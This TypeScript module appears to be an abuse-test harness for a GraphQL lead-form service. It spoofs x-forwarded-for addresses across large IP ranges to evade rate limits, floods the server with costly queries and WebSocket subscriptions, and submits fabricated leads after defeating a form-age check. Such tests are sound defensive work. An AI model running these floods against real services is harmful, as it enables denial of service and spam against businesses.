import { randomUUID } from 'node:crypto'
import { setTimeout as pause } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { readQuotePage } from '../quote-form.ts'
import { addressOf, atRate } from './networks.ts'

/** Attacks from one machine that has a whole IPv6 /48: 65,536 networks by which limits by address alone would count. */

type LeadAttack = { url: string; key: string; signal: AbortSignal }
type Responses = Record<string, number>

async function countedAtRate(
  perSecond: number,
  signal: AbortSignal,
  send: (index: number) => Promise<string | number>,
): Promise<Responses> {
  const responses: Responses = {}
  await atRate(perSecond, signal, async (index) => {
    const response = await send(index).catch(() => 'broken')
    if (signal.aborted && response === 'broken') return
    responses[response] = (responses[response] ?? 0) + 1
  })
  return responses
}

async function post({ url, key, signal }: LeadAttack, address: string, body: string): Promise<number> {
  const response = await fetch(`${url}/graphql`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      ...(key && { 'x-api-key': key }),
      'x-forwarded-for': address,
    },
    body,
    signal,
  })
  await response.arrayBuffer()
  return response.status
}

const repeated = (count: number, text: string) => Array.from({ length: count }, () => text).join(' ')

/** 450 fields in 4 KB, each compared with each: 27 ms of validation. */
const equalLists = repeated(150, 'listReviews { items { id } }')

/** Within the limits of a visitor, and another text each time, so that it is in no cache. */
const withinLimits = (index: number) =>
  `query Q${index} { listReviews { ${repeated(40, 'items { id name rating title comment service }')} } }`

export async function costlyDocuments(attack: LeadAttack): Promise<Responses> {
  const { url, key, signal } = attack
  const [without, within, sockets] = await Promise.all([
    countedAtRate(40, signal, () =>
      post({ ...attack, key: '' }, '198.51.100.66', JSON.stringify({ query: `{ ${equalLists} }` })),
    ),
    countedAtRate(40, signal, (index) =>
      post(attack, addressOf(index), JSON.stringify({ query: withinLimits(index) })),
    ),
    Promise.all([0, 1, 2, 3].map((index) => talkCostly(url, key, { index, signal }))),
  ])
  return {
    ...named('without key', without),
    ...named('with key', within),
    'sockets closed': sockets.reduce((sum, closed) => sum + closed, 0),
  }
}

const named = (what: string, responses: Responses): Responses =>
  Object.fromEntries(Object.entries(responses).map(([response, times]) => [`${what} ${response}`, times]))

async function talkCostly(
  url: string,
  key: string,
  { index, signal }: { index: number; signal: AbortSignal },
) {
  let closed = 0
  for (let round = 0; !signal.aborted; round += 1) {
    const headers = { 'x-forwarded-for': addressOf(index) }
    const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', { headers })
    const { promise: over, resolve } = Promise.withResolvers<void>()
    socket.on('error', () => resolve())
    socket.on('close', () => resolve())
    let isAcknowledged = false
    socket.on('message', (data) => {
      isAcknowledged ||= String(data).includes('connection_ack')
    })
    socket.on('open', () =>
      socket.send(JSON.stringify({ type: 'connection_init', payload: { 'x-api-key': key } })),
    )
    let sent = 0
    const timer = setInterval(() => {
      if (!isAcknowledged || socket.readyState !== WebSocket.OPEN) return
      sent += 1
      const query = `{ ${equalLists} }`
      socket.send(JSON.stringify({ type: 'subscribe', id: `${round}-${sent}`, payload: { query } }))
    }, 50)
    signal.addEventListener('abort', () => socket.terminate(), { once: true })
    await over
    clearInterval(timer)
    if (!signal.aborted) closed += 1
    await pause(500, undefined, { signal }).catch(() => undefined)
  }
  return closed
}

const createMessage =
  'mutation ($input: CreateMessageInput!, $submission: SubmissionInput) { createMessage(input: $input, submission: $submission) { id } }'

const formAgeMs = 2_100

async function madeUpLeads(attack: LeadAttack, { service, perSecond, most }: MadeUp): Promise<Responses> {
  const { formToken } = readQuotePage(await (await fetch(attack.url)).text())
  await pause(formAgeMs)
  return countedAtRate(perSecond, attack.signal, async (index) => {
    if (index >= most) return 'done'
    const mark = randomUUID()
    const input = {
      name: `Mallory ${index}`,
      email: `${mark}@example.org`,
      phone: '(713) 555-0199',
      service,
      message: `Made up. ${mark}`,
    }
    const variables = { input, submission: { formToken, idempotencyKey: mark, trap: '' } }
    return post(attack, addressOf(index), JSON.stringify({ query: createMessage, variables }))
  })
}

type MadeUp = { service: string; perSecond: number; most: number }

/** By the public key alone, as any program sends, each from an IPv4 /24 of its own. */
export const floodAsPrograms = (attack: LeadAttack) =>
  countedAtRate(40, attack.signal, (index) => {
    const mark = randomUUID()
    const input = {
      name: `Mallory ${index}`,
      email: `${mark}@example.org`,
      phone: '(713) 555-0199',
      service: index % 4 === 0 ? 'emergency' : 'access-control',
      message: `Made up. ${mark}`,
    }
    const address = `100.${64 + ((index >> 8) & 0x3f)}.${index & 0xff}.1`
    return post(attack, address, JSON.stringify({ query: createMessage, variables: { input } }))
  })

export const floodLeads = (attack: LeadAttack) =>
  madeUpLeads(attack, { service: 'access-control', perSecond: 80, most: Number.POSITIVE_INFINITY })

export const floodEmergencies = (attack: LeadAttack) =>
  madeUpLeads(attack, { service: 'emergency', perSecond: 20, most: 70 })
